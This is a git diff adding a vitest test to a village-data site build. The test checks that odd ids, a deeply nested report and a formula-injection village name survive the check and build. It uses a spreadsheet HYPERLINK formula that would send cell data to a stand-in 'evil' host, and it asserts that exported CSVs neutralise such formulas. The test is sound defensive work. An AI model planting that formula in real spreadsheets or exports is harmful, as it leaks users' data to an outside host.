@@ -5,7 +5,8 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { projectTempDir } from './support/build.ts';
+import { csvParseRows } from 'd3-dsv';
+import { projectTempDir, REPO_ROOT } from './support/build.ts';
 import { buildSync, copyFixture, fingerprint, FIXTURES, leftovers, startBuild } from './support/publish.ts';
 
 const GOOD = path.join(FIXTURES, 'site-one');
@@ -145,4 +146,43 @@ describe('interrupted builds', () => {
     expect(leftovers(dist)).toEqual([]);
     expect(existsSync(path.join(dist, 'index.html'))).toBe(true);
   }, 180_000);
+});
+
+describe('whatever check accepts, the build builds', () => {
+  test('village ids yj_test and YjTest, a formula as a village name, a report of 10,000 nested list items', async () => {
+    const { nestedListReport } = await import('../bench/checkInputs.ts');
+    const site = copyFixture('site-one', path.join(tmp, 'odd-site'));
+    const evil = '=HYPERLINK("http://evil/?"&A2,"点击")';
+    const evilCell = `"${evil.replaceAll('"', '""')}"`;
+    for (const name of readdirSync(path.join(site, 'data'))) {
+      const file = path.join(site, 'data', name);
+      const text = readFileSync(file, 'utf8').replaceAll('bs-shang', 'yj_test').replaceAll('bs-xia', 'YjTest').replaceAll('上村', evilCell);
+      writeFileSync(file, text);
+    }
+    writeFileSync(path.join(site, 'content/reports/nested.md'), nestedListReport());
+    const check = spawnSync(process.execPath, [path.join(REPO_ROOT, 'node_modules/tsx/dist/cli.mjs'), 'src/cli/check.ts'], {
+      cwd: REPO_ROOT, env: { ...process.env, SITE_DIR: site }, encoding: 'utf8',
+    });
+    expect(check.status, `${check.stdout}${check.stderr}`).toBe(0);
+
+    const dist = path.join(tmp, 'odd', 'dist');
+    const run = buildSync(['--outDir', dist], site);
+    expect(run.code, run.output).toBe(0);
+    expect(run.output).not.toMatch(/Maximum call stack|invalid chart id/);
+    expect(existsSync(path.join(dist, 'villages/yj_test/index.html'))).toBe(true);
+    expect(existsSync(path.join(dist, 'villages/YjTest/index.html'))).toBe(true);
+    expect(existsSync(path.join(dist, 'reports/nested/index.html'))).toBe(true);
+    const charts = readdirSync(path.join(dist, 'data/charts'));
+    expect(charts).toContain('cleanup-monthly-v-yj_test.csv');
+    expect(charts).toContain('cleanup-monthly-v-yjtest.csv');
+
+    // no CSV download carries a live formula; the name is there, behind a quote
+    const villagesCsv = readFileSync(path.join(dist, 'data/villages.csv'), 'utf8');
+    expect(villagesCsv).toContain(`"'${evil.replaceAll('"', '""')}"`);
+    for (const file of [path.join(dist, 'data/villages.csv'), ...charts.filter((f) => f.endsWith('.csv')).map((f) => path.join(dist, 'data/charts', f))]) {
+      for (const row of csvParseRows(readFileSync(file, 'utf8').replace(/^\ufeff/, ''))) {
+        for (const cell of row) expect(cell, file).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+      }
+    }
+  }, 240_000);
 });
